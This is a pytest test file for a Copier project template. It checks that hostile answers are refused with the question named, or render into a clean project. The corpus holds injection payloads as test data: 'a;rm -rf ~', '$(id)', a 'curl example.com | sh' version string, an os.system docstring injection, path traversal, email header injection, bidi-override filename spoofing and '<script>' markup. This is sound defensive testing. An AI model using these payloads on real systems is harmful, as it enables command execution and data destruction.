"""Quick layer: a corpus of hostile answers. Each is refused, naming its question, or renders clean.

An answer Copier accepts must give a project whose own checks pass; an answer it refuses
must say which question is wrong and write nothing. The corpus covers Unicode classes
(surrogates, invisible and bidirectional controls, look-alikes of ASCII, other scripts),
names the project's environment already takes, lengths, values given for computed
answers, wrong types and shell, template and markup metacharacters.

Accepted answers get the quick layer's static checks (every file parses, no unrendered
tag, no whitespace a hook would rewrite, ruff and ruff format); the full layer installs
the "all-on" render, whose text answers are ``rendering.HOSTILE``, and runs its whole suite
and hooks on them.
"""

import re
from pathlib import Path
from typing import Any

import pytest

from helpers.rendering import computed_values, questions, read_answers, render
from helpers.static_checks import static_problems

# A long sentence of ordinary words, for the length limits.
WORDS = "Trains and serves a model of the team's tables. "

# (answers, the question the refusal must name)
REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    # Unicode that no file can hold, that hides text, or that a hook would rewrite.
    "surrogate-in-name": ({"project_name": "Model \udc80"}, "project_name"),
    "surrogate-in-description": ({"description": "bad \ud800 bytes"}, "description"),
    "surrogate-in-author": ({"author_name": "Jane \udcff"}, "author_name"),
    "right-to-left-override": ({"project_name": "Invoice \u202egpj.exe"}, "project_name"),
    "left-to-right-isolate": ({"description": "text \u2066isolated\u2069"}, "description"),
    "pop-directional-formatting": ({"author_name": "Jane \u202c Doe"}, "author_name"),
    "arabic-letter-mark": ({"description": "mark \u061c here"}, "description"),
    "zero-width-space": ({"author_name": "Jane\u200bDoe"}, "author_name"),
    "byte-order-mark": ({"project_name": "\ufeffModel"}, "project_name"),
    "word-joiner": ({"description": "joined\u2060words"}, "description"),
    "soft-hyphen": ({"project_name": "Hyphen\u00adated"}, "project_name"),
    "left-to-right-mark": ({"project_name": "Mark\u200e"}, "project_name"),
    "line-separator": ({"project_name": "two\u2028lines"}, "project_name"),
    "next-line-control": ({"description": "two\u0085lines"}, "description"),
    "escape-control": ({"description": "colour \x1b[31m red"}, "description"),
    "nul": ({"author_name": "Jane\x00Doe"}, "author_name"),
    "leading-space": ({"project_name": " Model"}, "project_name"),
    "trailing-space": ({"description": "A model. "}, "description"),
    "trailing-no-break-space": ({"author_name": "Jane Doe\u00a0"}, "author_name"),
    "leading-ideographic-space": ({"project_name": "\u3000Model"}, "project_name"),
    "fullwidth-package": ({"package_name": "\uff50\uff4b\uff47"}, "package_name"),
    "cyrillic-slug": ({"project_slug": "\u0430pp"}, "project_slug"),
    "name-without-latin-letters": ({"project_name": "機械学習"}, "project_slug"),
    # Names the project's dependency closure, its commands or pytest already take.
    "name-packaging": ({"project_name": "Packaging"}, "project_slug"),
    "name-pillow": ({"project_name": "Pillow"}, "project_slug"),
    "name-identify": ({"project_name": "Identify"}, "project_slug"),
    "slug-numpy": ({"project_slug": "numpy", "package_name": "numpy_ml"}, "project_slug"),
    "slug-pytest": ({"project_slug": "pytest", "package_name": "pytest_ml"}, "project_slug"),
    "slug-python": ({"project_slug": "python", "package_name": "python_ml"}, "project_slug"),
    "slug-python3": ({"project_slug": "python3", "package_name": "python3_ml"}, "project_slug"),
    "slug-ruff": ({"project_slug": "ruff", "package_name": "ruff_ml"}, "project_slug"),
    "slug-a-command": ({"project_slug": "f2py", "package_name": "f2py_ml"}, "project_slug"),
    "slug-typing-extensions": ({"project_slug": "typing-extensions"}, "project_slug"),
    "package-typing-extensions": ({"package_name": "typing_extensions"}, "package_name"),
    "package-dotenv": ({"package_name": "dotenv"}, "package_name"),
    "package-click": ({"package_name": "click", "serving": True}, "package_name"),
    "package-conftest": ({"package_name": "conftest"}, "package_name"),
    "package-pil": ({"package_name": "pil"}, "package_name"),
    "package-yaml": ({"package_name": "yaml"}, "package_name"),
    "package-google": ({"package_name": "google"}, "package_name"),
    "package-src": ({"package_name": "src"}, "package_name"),
    "package-dunder": ({"package_name": "__init__"}, "package_name"),
    "package-dotted": ({"package_name": "os.path"}, "package_name"),
    # Lengths past what the files and registries take.
    "description-over-pypi-limit": ({"description": "x" * 513}, "description"),
    "description-two-megabytes": ({"description": WORDS * 43_000}, "description"),
    "author-too-long": ({"author_name": "J" * 201}, "author_name"),
    "name-too-long": ({"project_name": "N" * 81}, "project_name"),
    "slug-too-long": ({"project_slug": "s" * 51}, "project_slug"),
    "package-too-long": ({"package_name": "p" * 41}, "package_name"),
    # Computed values: derived from the answers, never given.
    "computed-package-docstring": (
        {"package_docstring": 'x"""\nimport os\nos.system("id")\n"""'},
        "package_docstring",
    ),
    "computed-python-target": ({"python_target": "py39"}, "python_target"),
    "computed-python-versions": ({"python_versions": ["2.7"]}, "python_versions"),
    "computed-dependencies": (
        {"dependencies": ["evil @ https://example.com/evil.whl"]},
        "dependencies",
    ),
    "computed-dev-dependencies": ({"dev_dependencies": ["evil"]}, "dev_dependencies"),
    "computed-env-prefix": ({"env_prefix": "$(id)_"}, "env_prefix"),
    "computed-uv-version": ({"uv_version": "0.0.1; curl example.com | sh"}, "uv_version"),
    "computed-docker-image": ({"docker_base_image": "evil/python:latest"}, "docker_base_image"),
    "computed-description-quoted": ({"description_quoted": '"" ; import os'}, "description_quoted"),
    "computed-serving-port": ({"serving_port": 22}, "serving_port"),
    "computed-license-spdx": ({"license_spdx": "WTFPL"}, "license_spdx"),
    # Wrong types, which Copier itself would refuse without naming the question.
    "year-not-digits": ({"copyright_year": "20x6"}, "copyright_year"),
    "year-fraction": ({"copyright_year": 2024.5}, "copyright_year"),
    "year-empty": ({"copyright_year": ""}, "copyright_year"),
    "year-fullwidth-digits": ({"copyright_year": "\uff12\uff10\uff12\uff16"}, "copyright_year"),
    "year-five-digits": ({"copyright_year": 20266}, "copyright_year"),
    # Metacharacters where only a name fits.
    "slug-shell": ({"project_slug": "a;rm -rf ~"}, "project_slug"),
    "slug-substitution": ({"project_slug": "$(id)"}, "project_slug"),
    "slug-path": ({"project_slug": "../outside"}, "project_slug"),
    "package-path": ({"package_name": "../outside"}, "package_name"),
    "email-header-injection": (
        {"author_email": "jane@example.com\nBcc: x@example.com"},
        "author_email",
    ),
    "email-quote": ({"author_email": 'jane@example.com"; evil'}, "author_email"),
}

# Answers that must render into a project whose checks pass, as given.
ACCEPTED: dict[str, dict[str, Any]] = {
    "typography": {
        "project_name": "Caf\N{LATIN SMALL LETTER E WITH ACUTE} \N{EN DASH} it\N{RIGHT SINGLE QUOTATION MARK}s ML",
        "description": (
            "\N{LEFT DOUBLE QUOTATION MARK}Quoted\N{RIGHT DOUBLE QUOTATION MARK} \N{EM DASH} "
            "with\N{NO-BREAK SPACE}no-break spaces, an ellipsis\N{HORIZONTAL ELLIPSIS} and 2\N{MULTIPLICATION SIGN}3"
        ),
        "author_name": "Zo\N{LATIN SMALL LETTER E WITH DIAERESIS} O\N{RIGHT SINGLE QUOTATION MARK}Brien",
    },
    "fullwidth-and-look-alikes": {
        "description": "\N{FULLWIDTH LEFT PARENTHESIS}x\N{FULLWIDTH RIGHT PARENTHESIS} \N{CYRILLIC SMALL LETTER A} \N{GREEK CAPITAL LETTER ALPHA}",
    },
    "argparse-format": {"description": "Cuts 50% of %(prog)s errors, %s and %%"},
    "description-at-pypi-limit": {"description": (WORDS * 11)[:511] + "."},
    "author-at-limit": {"author_name": "J" * 200},
    "cyrillic": {"project_name": "Модель спроса", "project_slug": "demand-model"},
    "greek-and-arabic": {
        "project_name": "Αλφα مشروع",
        "project_slug": "alpha-project",
        "description": "نموذج للتنبؤ — Μοντέλο πρόβλεψης.",
    },
    "cjk-with-slug": {"project_name": "機械学習プロジェクト", "project_slug": "ml-project-jp"},
    "emoji-sequences": {
        "project_name": "Lab \N{WOMAN}\N{ZERO WIDTH JOINER}\N{MICROSCOPE} \N{REGIONAL INDICATOR SYMBOL LETTER F}\N{REGIONAL INDICATOR SYMBOL LETTER R}",
        "description": "Skin tones \N{WAVING HAND SIGN}\N{EMOJI MODIFIER FITZPATRICK TYPE-4} and keycaps 1\N{COMBINING ENCLOSING KEYCAP}",
    },
    "combining-marks": {"project_name": "Nai\N{COMBINING DIAERESIS}ve Bayes"},
    "shell-metacharacters": {
        "description": "$(id) `id` ${HOME} ; rm -rf / && exit | tee > /dev/null 2>&1 &",
    },
    "ci-expressions": {
        "description": "${{ secrets.GITHUB_TOKEN }} $CI_JOB_TOKEN ${{ github.event }}"
    },
    "jinja-and-format-strings": {
        "project_name": "Model {{ 7*7 }} {% raw %} {#",
        "description": "{0} {name!r} {{}} %(x)d",
    },
    "markup": {
        "description": "<script>alert(1)</script> [x](javascript:alert(1)) ![i](http://x) **b** | a | b |",
        "author_name": "<b>Jane</b> & \"Co\" 'Ltd'",
    },
    "yaml-toml-json-syntax": {
        "description": 'key: value - item &anchor *alias !!python/object {"a": [1]} [table] a = """b""" \'\'\'c\'\'\'',
    },
    "escape-sequences-as-text": {"description": r"\n \t \x00 \u0000 \N{BELL} \\ \" \'"},
    "yaml-specials": {"project_name": "Null", "author_name": "True", "description": "~"},
    "comment-starters": {"project_name": "# Model // -- ; REM", "description": "<!-- --> /* */ #!"},
    "unusual-valid-email": {"author_email": "o'brien+ml@sub.example.co.uk"},
    "year-bounds": {"copyright_year": "1970"},
    "names-near-taken-ones": {"project_slug": "numpy-tools", "package_name": "python_dotenv_ml"},
}


def question_named(message: str) -> str:
    """Return the question a Copier refusal names."""
    found = re.search(r"question '(\w+)'|choice for '(\w+)'", message)
    assert found, f"the refusal names no question: {message}"
    return found.group(1) or found.group(2)


@pytest.mark.parametrize(("answers", "question"), REFUSED.values(), ids=REFUSED)
def test_a_hostile_answer_is_refused_naming_its_question(
    template: Path, tmp_path: Path, answers: dict[str, Any], question: str
) -> None:
    destination = tmp_path / "project"
    with pytest.raises(ValueError, match=r"Validation error for question|Invalid choice") as error:
        render(template, destination, answers)
    assert question_named(str(error.value)) == question
    assert question in questions() | computed_values()
    assert not destination.exists()


@pytest.mark.parametrize("answers", ACCEPTED.values(), ids=ACCEPTED)
def test_an_accepted_hostile_answer_renders_clean(
    template: Path, tmp_path: Path, answers: dict[str, Any]
) -> None:
    project = render(template, tmp_path / "project", answers)
    recorded = read_answers(project)
    assert {name: recorded[name] for name in answers} == answers
    problems = static_problems(project, recorded)
    assert not problems, "\n".join(problems)


def test_the_corpus_covers_every_free_text_and_name_question() -> None:
    refused = {question for _, question in REFUSED.values()}
    accepted = {name for answers in ACCEPTED.values() for name in answers}
    names = {"project_name", "project_slug", "package_name", "description", "author_name"}
    assert names | {"author_email", "copyright_year"} <= refused
    assert names | {"author_email", "copyright_year"} <= accepted
    assert len(set(computed_values()) & refused) >= 10
    assert len(REFUSED) + len(ACCEPTED) >= 60


def test_every_computed_value_refuses_a_given_value() -> None:
    """A value given for a computed value would reach the files unchecked (text as code)."""
    anchor = computed_values()["python_versions"]["validator"]
    assert "cannot be given" in anchor
    lacking = [name for name, spec in computed_values().items() if spec.get("validator") != anchor]
    assert not lacking, f"computed values without the refusing validator: {lacking}"
